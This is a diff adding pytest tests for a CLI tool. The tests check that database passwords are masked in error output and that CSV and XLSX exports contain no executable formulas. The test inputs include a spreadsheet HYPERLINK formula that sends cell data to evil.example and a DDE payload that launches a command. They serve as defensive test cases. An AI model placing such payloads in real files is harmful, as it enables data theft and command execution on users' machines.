@@ -1,0 +1,73 @@
+"""No secret printed, no formula run: issue 19's first two items, reproduced."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from .conftest import Cli
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+33 6 12 34 56 78",
+           "-- je ne sais pas", "@SUM(1+1)", "=> oui"]
+
+
+@pytest.mark.parametrize("url, needle", [
+    ("postgresql://pgadmin:goodpw@127.0.0.1:notaport/x", "port is not a number"),
+    ("postgresql://pgadmin:goodpw@127.0.0.1:1/x", "cannot open the project"),
+    ("postgresql://pgadmin:goodpw@127.0.0.1:99999/x", "out of range"),
+    ("mysql://pgadmin:goodpw@db.example/x", "unsupported database 'mysql'"),
+])
+def test_a_password_in_a_url_is_never_printed(cli: Cli, url: str, needle: str) -> None:
+    for args in (("quotes",), ("init",), ("demo", "--no-tui")):
+        result = cli("--db", url, *args)
+        assert result.code == 1, (args, result.err)
+        assert result.err.count("\n") == 1, result.err
+        assert "goodpw" not in result.err + result.out and "***" in result.err
+        assert needle in result.err
+
+
+def test_merge_and_success_messages_mask_passwords(cli: Cli, demo_db: Path) -> None:
+    other = "postgresql://alice:s3cret@127.0.0.1:1/other"
+    result = cli("--db", str(demo_db), "merge", other)
+    assert result.code == 1 and "s3cret" not in result.err and "alice:***@" in result.err
+
+
+@pytest.fixture
+def hostile_project(cli: Cli, tmp_path: Path) -> str:
+    db = str(tmp_path / "h.db")
+    assert cli("--db", db, "init").code == 0
+    table = tmp_path / "hostile.csv"
+    with table.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["group", "speaker", "text", "codes"])
+        for i, text in enumerate(HOSTILE):
+            writer.writerow(["G1", f"=P{i}", text, "=cmd|' /C calc'!A0"])
+    assert cli("--db", db, "import", str(table), "--add-codes").code == 0
+    return db
+
+
+def test_report_and_tables_never_hold_a_formula(cli: Cli, hostile_project: str,
+                                                tmp_path: Path) -> None:
+    for fmt in ("xlsx", "csv"):
+        report = tmp_path / f"report.{fmt}"
+        assert cli("--db", hostile_project, "report", "--format", fmt, "-o",
+                   str(report)).code == 0
+        table = tmp_path / f"quotes.{fmt}"
+        assert cli("--db", hostile_project, "quotes", "--format", fmt, "-o",
+                   str(table)).code == 0
+        for path in (report, table):
+            if fmt == "xlsx":
+                with zipfile.ZipFile(path) as package:
+                    for name in package.namelist():
+                        if name.startswith("xl/worksheets/"):
+                            assert "<f>" not in package.read(name).decode(), (path, name)
+            else:
+                cells = [c for row in csv.reader(io.StringIO(path.read_text("utf-8-sig")))
+                         for c in row]
+                executable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
+                              and not c.replace(".", "").replace("-", "").isdigit()]
+                assert executable == [], (path, executable)
